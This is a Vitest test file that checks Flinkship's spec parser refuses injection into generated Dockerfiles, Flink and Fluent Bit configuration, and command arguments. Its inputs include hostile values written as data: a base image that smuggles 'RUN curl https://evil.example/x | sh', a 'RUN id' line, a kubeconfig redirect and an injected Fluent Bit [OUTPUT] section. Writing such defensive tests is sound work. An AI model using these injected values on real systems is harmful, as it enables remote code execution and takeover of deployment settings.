// Nothing written in the spec can inject into what Flinkship generates from it: the Dockerfile, the Flink
// configuration file, the Fluent Bit configuration, YAML and argv. Each case is refused at its line.
import { describe, expect, it } from 'vitest';
import { fluentBitConfig } from '../../src/integration/fluentBit.js';
import { parseSpec } from '../../src/spec/load.js';
import { InputError } from '../../src/util/errors.js';

const FILE = 'flinkship.yaml';

/** A valid spec, with `extra` lines appended at the top level. */
function spec(extra = '', image = '', job = ''): string {
  return [
    'name: log-cleaner',
    "flinkVersion: '1.20'",
    'image:',
    '  repository: ghcr.io/acme/log-cleaner',
    ...(image ? [image] : []),
    'job:',
    '  jar: target/log-cleaner.jar',
    ...(job ? [job] : []),
    ...(extra ? [extra] : []),
    '',
  ].join('\n');
}

function issues(text: string): string[] {
  try {
    parseSpec(text, FILE);
  } catch (err) {
    if (!(err instanceof InputError)) throw err;
    return err.issues.map((i) => `${i.file}:${i.line}:${i.col}: ${i.field}: ${i.message}`);
  }
  return [];
}

const CONTROL =
  'control characters are not allowed in the spec (they could add lines to the Dockerfile, configuration files and commands flinkship generates); remove it';

describe('image.base is an image reference (point 6)', () => {
  it('refuses a base image with a newline that would add a RUN instruction to the Dockerfile', () => {
    expect(issues(spec('', '  base: "flink:1.20\\nRUN curl https://evil.example/x | sh"'))).toEqual([
      `${FILE}:5:9: image.base: found "flink:1.20\\nRUN curl https://evil.example/x | sh", which contains U+000A (line feed); ${CONTROL}`,
    ]);
  });

  it('refuses a base image that is not an image reference, as --base-image is refused', () => {
    expect(issues(spec('', '  base: "flink:1.20 AS x"'))).toEqual([
      `${FILE}:5:9: image.base: found "flink:1.20 AS x"; expected an image reference such as flink:1.20.3-java17 or repo@sha256:<64 hex>`,
    ]);
    expect(
      issues(spec('environments:\n  staging:\n    image:\n      base: "Flink:latest"', '  base: flink:1.20')),
    ).toEqual([
      `${FILE}:11:13: environments.staging.image.base: found "Flink:latest"; expected an image reference such as flink:1.20.3-java17 or repo@sha256:<64 hex>`,
    ]);
  });

  it('accepts image references, {env} included', () => {
    expect(issues(spec('', '  base: registry.example.com:5000/flink/flink:1.20.3-{env}'))).toEqual([]);
    expect(issues(spec('', `  base: flink@sha256:${'a'.repeat(64)}`))).toEqual([]);
  });
});

describe('control characters are refused in every spec string (point 6)', () => {
  it('refuses a files target with a newline, which would be a new Dockerfile instruction', () => {
    const text = spec('', '  files:\n    - source: conf/x\n      target: "/opt/x\\nRUN id"');
    expect(issues(text)).toEqual([
      `${FILE}:7:15: image.files[0].target: found "/opt/x\\nRUN id", which contains U+000A (line feed); ${CONTROL}`,
    ]);
  });

  it('refuses control characters in job args, names, env values, contexts and keys, each at its line', () => {
    const text = spec(
      [
        'environments:',
        '  staging:',
        '    context: "prod\\r"',
        '    namespace: "ns\\u0000"',
        '    image:',
        '      env: { "TZ": "UTC\\u0085" }',
      ].join('\n'),
      '',
      '  args: ["--a", "b\\tc"]',
    );
    expect(issues(text)).toEqual([
      `${FILE}:7:17: job.args[1]: found "b\\tc", which contains U+0009 (tab); ${CONTROL}`,
      `${FILE}:10:14: environments.staging.context: found "prod\\r", which contains U+000D (carriage return); ${CONTROL}`,
      `${FILE}:11:16: environments.staging.namespace: found "ns\\u0000", which contains U+0000 (NUL); ${CONTROL}`,
      `${FILE}:13:20: environments.staging.image.env.TZ: found "UTC\\u0085", which contains U+0085 (next line); ${CONTROL}`,
    ]);
  });

  it('refuses a control character in a key, at the key', () => {
    expect(issues(spec('podTemplate:\n  "meta\\ndata": {}'))).toEqual([
      `${FILE}:8:3: podTemplate["meta\\ndata"]: found the key "meta\\ndata", which contains U+000A (line feed); ${CONTROL}`,
    ]);
  });

  it('lets a pod template hold multi-line scripts: it is written by a YAML serializer', () => {
    const text = spec(
      'podTemplate:\n  spec:\n    initContainers:\n      - name: init\n        args: ["-c", "set -e\\n\\techo hi\\n"]',
    );
    expect(issues(text)).toEqual([]);
  });
});

describe('flinkConfiguration cannot take over the deployer or add lines (point 9)', () => {
  it('refuses kubernetes.config.file and kubernetes.context, naming what to use instead', () => {
    const text = spec(
      'flinkConfiguration:\n  kubernetes.config.file: /home/runner/.kube/config\n  kubernetes.context: production',
    );
    expect(issues(text)).toEqual([
      `${FILE}:8:3: flinkConfiguration["kubernetes.config.file"]: "kubernetes.config.file" is set by flinkship from the kubeconfig it writes for the Flink client (give yours with --kubeconfig or the kubeconfig input); remove it here and use that field instead`,
      `${FILE}:9:3: flinkConfiguration["kubernetes.context"]: "kubernetes.context" is set by flinkship from environments.<env>.context (or --context); remove it here and use that field instead`,
    ]);
  });

  it('refuses a newline in a value, which would add a line to a 1.x flink-conf.yaml', () => {
    const text = spec('flinkConfiguration:\n  pipeline.name: "x\\nkubernetes.config.file: /etc/kube"');
    expect(issues(text)).toEqual([
      `${FILE}:8:18: flinkConfiguration["pipeline.name"]: found "x\\nkubernetes.config.file: /etc/kube", which contains U+000A (line feed); ${CONTROL}`,
    ]);
  });

  it('refuses a key with a newline, as YAML can write one', () => {
    expect(issues(spec('flinkConfiguration:\n  ? "a\\nb"\n  : 1'))).toEqual([
      `${FILE}:8:5: flinkConfiguration["a\\nb"]: found the key "a\\nb", which contains U+000A (line feed); ${CONTROL}`,
    ]);
  });
});

describe('Fluent Bit settings cannot inject a section (point 10)', () => {
  const env = (fluentBit: string) =>
    spec(`environments:\n  integration:\n    cluster: kind\n    fluentBit: ${fluentBit}`);

  it('refuses a match that would add an [OUTPUT] section', () => {
    expect(issues(env(`{ match: "kube.*\\n[OUTPUT]\\n    Name http" }`))).toEqual([
      `${FILE}:10:25: environments.integration.fluentBit.match: found "kube.*\\n[OUTPUT]\\n    Name http", which contains U+000A (line feed); ${CONTROL}`,
    ]);
  });

  it('refuses a match with spaces, @ directives or ${} variables', () => {
    for (const match of ['kube.* extra', '@INCLUDE', '${HOME}', '']) {
      expect(issues(env(`{ match: "${match}" }`))).toEqual([
        `${FILE}:10:25: environments.integration.fluentBit.match: found ${JSON.stringify(match)}; expected a Fluent Bit tag pattern of letters, digits and . _ - * such as kube.var.log.containers.log-producer*`,
      ]);
    }
  });

  it('accepts tag patterns', () => {
    expect(issues(env(`{ match: "kube.var.log.containers.log-producer*_logs_*" }`))).toEqual([]);
  });

  it('renders no value that does not pass the same check', () => {
    const settings = { namespace: 'logging', topic: 'logs', brokers: 'b.kafka:9092' };
    expect(() => fluentBitConfig({ ...settings, match: 'kube.*\n[OUTPUT]' })).toThrow(
      'Fluent Bit match "kube.*\\n[OUTPUT]" is not a tag pattern; it would change the configuration',
    );
    expect(() => fluentBitConfig({ ...settings, match: 'kube.*', brokers: 'b:9092\n[OUTPUT]' })).toThrow(
      'Fluent Bit brokers "b:9092\\n[OUTPUT]" is not a broker list; it would change the configuration',
    );
    expect(fluentBitConfig({ ...settings, match: 'kube.*' })).toContain('    Match              kube.*\n');
  });
});

describe('a files target is one word of the COPY line (point 6)', () => {
  it('refuses a target with a space, which COPY would read as another source', () => {
    const text = spec('', '  files:\n    - source: conf/x\n      target: "/opt/x /etc/"');
    expect(issues(text)).toEqual([
      `${FILE}:7:15: image.files[0].target: found "/opt/x /etc/"; expected an absolute path without spaces (COPY takes the last word as the target), such as /opt/hadoop/conf`,
    ]);
  });
});
